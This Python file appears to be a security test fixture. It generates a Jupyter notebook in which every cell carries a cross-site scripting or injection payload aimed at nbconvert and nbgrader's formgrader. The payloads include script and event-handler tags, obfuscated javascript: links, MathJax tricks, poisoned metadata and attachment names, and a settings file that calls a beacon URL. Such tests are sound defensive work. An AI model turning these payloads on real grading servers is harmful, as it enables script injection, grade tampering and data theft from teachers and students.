"""A notebook whose every cell wants something to run, or at least to be called for, in the browser of whoever reads it.

In each payload, ``URL`` stands for an address that tells its name. What is under ``calls`` reaches that address when
stock nbconvert or nbgrader shows it; the rest needs a click, a pointer or a server of ours, and is looked for in the
page itself.
"""

import base64
import json
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'URL\')"><script>fetch("URL")</script></svg>'
TRAILING = base64.b64encode(base64.b64decode(PIXEL) + b'"><script>fetch("URL")</script>').decode()

CALLING_TEXTS = {
    "script": '<script>fetch("URL")</script>',
    "script-with-address": '<script src="URL"></script>',
    "script-of-a-module": '<script type="module">import "URL"</script>',
    "image": '<img src="URL">',
    "image-set": '<img srcset="URL 1x">',
    "image-in-capitals": '<IMG SRC="URL">',
    "onerror": "<img src=x onerror=\"fetch('URL')\">",
    "onload": "<svg onload=\"fetch('URL')\">",
    "ontoggle": "<details open ontoggle=\"fetch('URL')\">x</details>",
    "onanimationstart": (
        "<style>@keyframes x {}</style><b style='animation-name:x' onanimationstart=\"fetch('URL')\">x</b>"
    ),
    "svg-image": '<svg><image href="URL"/></svg>',
    "iframe": '<iframe src="URL"></iframe>',
    "iframe-with-a-page": "<iframe srcdoc=\"<script>parent.fetch('URL')</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:parent.fetch('URL')\"></iframe>",
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "video": '<video src="URL" autoplay></video>',
    "poster": '<video poster="URL"></video>',
    "input": '<input type="image" src="URL">',
    "stylesheet": '<link rel="stylesheet" href="URL">',
    "style-import": '<style>@import "URL";</style>',
    "style": '<p style="background: url(URL)">x</p>',
    "background": '<table background="URL"><tr><td>x</td></tr></table>',
    "preload": '<link rel="preload" as="image" href="URL">',
    "form": (
        '<iframe name="inner"></iframe><form id="sent" action="URL" target="inner"></form>'
        "<script>sent.submit()</script>"
    ),
    "refresh": '<meta http-equiv="refresh" content="1; url=URL">',
    "picture": "![](URL)",
    "picture-with-title": "![a](<URL> 'x')",
    "picture-by-reference": "![a][there]\n\n[there]: URL",
    "picture-in-a-link": "[![a](URL)](http://localhost)",
    "picture-behind-an-attachment": "![a\\](attachment:pixel.png)](URL)",
    "picture-behind-code": "![a`](attachment:pixel.png)`](URL)",
    "picture-that-configures": "![](/formgrader?path=settings)",
    "mermaid": '```mermaid\n<img src="URL">\n```',
    "in-a-heading": '# x <img src="URL">',
    "in-a-table": '| a | b |\n|---|---|\n| <img src="URL"> | ![](URL) |',
    "in-a-list": '> 1. - <img src="URL">',
    "after-maths": '$a$ <img src="URL"> $b$',
    "across-lines": '<img\nsrc="URL">',
    "base": '<base href="URL/">\n\n![](x.png)',
}
OTHER_TEXTS = {
    "link-javascript": "[a](javascript:fetch('URL'))",
    "link-javascript-in-entities": "[a](java&#115;cript:fetch('URL')) [b](javascript&colon;fetch('URL'))",
    "link-javascript-in-brackets": "[a](<\tjavascrip\tt:fetch('URL')>) [b](JaVaScRiPt:fetch('URL'))",
    "link-javascript-by-reference": "[a][b] and [b]\n\n[b]: javascript:fetch('URL')",
    "link-javascript-automatic": "<javascript:fetch('URL')>",
    "link-data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "link-to-a-file": "[a](page.html) [b](..%2f..%2f..%2fsubmitted%2fada%2fex1%2fpage.html) [c](/formgrader?path=x)",
    "link-without-a-host": "[a](//localhost/x) [b](http:/formgrader) [c](https:formgrader)",
    "title": '[a](https://example.org "\\" onmouseover=fetch(\'URL\') x=\\"")',
    "title-single": "[a](https://example.org '\" onmouseover=\"fetch(`URL`)')",
    "language": '```"><img/src=URL>\nx\n```',
    "maths": "$<img src=URL>$ $$</script><img src=URL>$$ \\begin{equation}<img src=URL>\\end{equation}",
    # What formgrader's MathJax would take for a picture and for a pointer from somewhere else.
    "maths-pointer": r"$\style{cursor: url(URL), auto}{x}$",
    "maths-picture": r"$\mmlToken{mglyph}[src='URL']{x}$",
    "maths-link": r"$\href{javascript:fetch('URL')}{x}$",
    "maths-hidden": r"&dollar;&bsol;style{cursor: url(URL), auto}{x}&dollar; \$\\style{cursor: url(URL), auto}{y}\$",
    # What would be painted over formgrader's fields, and what would change other formulas.
    "maths-outside": r"$\rule{99em}{99em}$ $\raise99em{\Huge 10/10}$ $\rlap{a}\kern-99em\smash{b}$",
    "maths-defined": r"$\def\le{>}\newcommand{\a}{\b\b}$",
    # Where formgrader looks for the field with the points.
    "heading-of-a-field": "# essay",
    "heading-of-a-comment": "essay-comment\n====",
    "missing-attachment": "![a](attachment:missing.png)",
    "attachment-named-like-html": '![a](attachment:"><img/src=x>)',
    "attachment-svg": "![a](attachment:drawing.svg)",
    "attachment": "![plot one](attachment:pixel.png) ![plot two](attachment:pixel%20two.png)",
    "comment": "<!-- x",
    "cdata": "<![CDATA[ x",
    "unfinished": '<b title="',
    "deep": ">" * 5000,
    "slow": "\\\\[" * 20_000,
}
ATTACHMENTS = {
    "pixel.png": {"image/png": PIXEL},
    "pixel two.png": {"image/png": PIXEL},
    "drawing.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    '"><img/src=x>': {"image/png": TRAILING},
}
CALLING_OUTPUTS = {
    "output-html": {"text/html": '<script>fetch("URL")</script>'},
    "output-html-image": {"text/html": '<img src="URL">'},
    "output-javascript": {"application/javascript": 'fetch("URL")'},
    "output-markdown": {"text/markdown": "![](URL)"},
    "output-metadata": {"image/png": PIXEL},
}
OUTPUT_METADATA = {"output-metadata": {"image/png": {"width": "1 onload=fetch('URL')", "height": "1"}}}
OTHER_OUTPUTS = {
    "output-latex": {"text/latex": r"$\style{cursor: url(URL), auto}{x}$<script>fetch('URL')</script>"},
    "output-svg": {"image/svg+xml": SVG},
    "output-json": {"application/json": {"a": "<script>fetch('URL')</script>"}},
    "output-widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "x</script><script>fetch('URL')"}},
    "output-mermaid": {"text/vnd.mermaid": "graph TD; a[<img src=URL>]"},
    "output-text": {"text/plain": "<script>fetch('URL')</script>"},
    "output-trailing": {"image/png": TRAILING},
}
PRINTING = {
    "print": "print('<script>fetch(`URL`)</script>')",
    "print-ansi": r"print('\x1b[31m<script>fetch(`URL`)</script>\x1b[0m \x1b[38;2;1;2;3\" onclick=x;m')",
    "print-link": r"print('\x1b]8;;javascript:fetch(`URL`)\x1b\\link\x1b]8;;\x1b\\')",
    "print-error": "import sys; print('<img src=URL>', file=sys.stderr)",
    "exception": "raise type('<img src=URL>', (Exception,), {})('<script>fetch(`URL`)</script>')",
    "syntax": "<script>fetch('URL')</script>",
    "repr": "type('X', (), {'__repr__': lambda self: '<img src=URL>'})()",
    "repr-html": "type('X', (), {'_repr_html_': lambda self: '<img src=URL>'})()",
}
METADATA = {
    "title": "</title><script>fetch('URL')</script>",
    "authors": [{"name": "<script>fetch('URL')</script>"}],
    "kernelspec": {"name": "python3", "display_name": "<script>fetch('URL')</script>", "language": "python"},
    "language_info": {"name": "\"><script>fetch('URL')</script>", "pygments_lexer": "python"},
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>fetch('URL')</script>"}}
    },
}
# Formgrader runs what is in a folder, ``settings``, when it is asked for an address with its path.
SETTINGS = "import urllib.request\nurllib.request.urlopen('URL')"
# What a test cell quotes of a student's: the words of an exception.
QUOTED = """class Loud:
    def __array__(self, *_):
        raise ValueError(r"<script>fetch('URL')</script> $\\style{cursor: url(URL), auto}{x}$ ![](URL)")


second = Loud()"""
PAGE = "<script>fetch('URL'); fetch('/formgrader/api/assignments')</script>"
ACTIVE_FILES = {
    "page.html": PAGE,
    "PAGE.HTM": PAGE,
    "more/page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml">{PAGE}</html>',
    "picture.svg": SVG,
    "data:text/plain,page.html": PAGE,  # a name that looks like an address
}
OTHER_FILES = {"notes.txt": PAGE, "helper.py": "first = 1", "page": PAGE}


def aimed(payload: Any, name: str, beacon: str) -> Any:
    """A payload that calls the beacon by its own name."""
    return json.loads(json.dumps(payload).replace("URL", f"{beacon}/{name}"))


def hostile_cells(beacon: str) -> list[NotebookNode]:
    """A cell for each payload, as it would be handed in, with outputs; its id is the payload's name."""
    cells = []
    for name, text in (CALLING_TEXTS | OTHER_TEXTS).items():
        cell = new_markdown_cell(aimed(text, name, beacon), id=name, metadata={"tags": ['"><script>'], "name": "<b>"})
        if "attachment" in text:
            cell.attachments = NotebookNode(aimed(ATTACHMENTS, name, beacon))
        cells.append(cell)
    for name, bundle in (CALLING_OUTPUTS | OTHER_OUTPUTS).items():
        data = aimed(bundle, name, beacon)
        metadata = aimed(OUTPUT_METADATA.get(name, {}), name, beacon)
        source = f"from IPython.display import display\ndisplay({data!r}, metadata={metadata!r}, raw=True)"
        cells.append(new_code_cell(source, id=name, outputs=[new_output("display_data", data=data, metadata=metadata)]))
    for name, source in PRINTING.items():
        metadata = {"collapsed": True, "tags": ['" onclick="x']}
        cells.append(new_code_cell(aimed(source, name, beacon), id=name, metadata=metadata))
    return cells
